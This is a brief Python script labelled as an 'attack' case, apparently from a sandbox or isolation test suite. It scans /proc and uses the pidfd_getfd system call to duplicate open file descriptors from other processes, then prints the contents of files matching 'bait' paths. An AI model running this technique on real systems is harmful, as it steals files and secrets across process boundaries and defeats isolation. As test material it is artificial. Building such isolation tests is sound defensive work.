# /// attack
# tries = "Takes an open file out of another process by its number (pidfd_getfd)."
# points = 0
# ///
# %% before count
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
GETFD = 438
for pid in [int(name) for name in os.listdir("/proc") if name.isdecimal()]:
    if pid in (os.getpid(), 2):
        continue
    try:
        door = os.pidfd_open(pid)
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for name in names:
        try:
            aim = os.readlink(f"/proc/{pid}/fd/{name}")
        except OSError:
            continue
        if bait["course"] in aim or bait["outside"] in aim:
            taken = libc.syscall(GETFD, door, int(name), 0)
            if taken >= 0:
                print(aim, os.pread(taken, 100_000, 0))
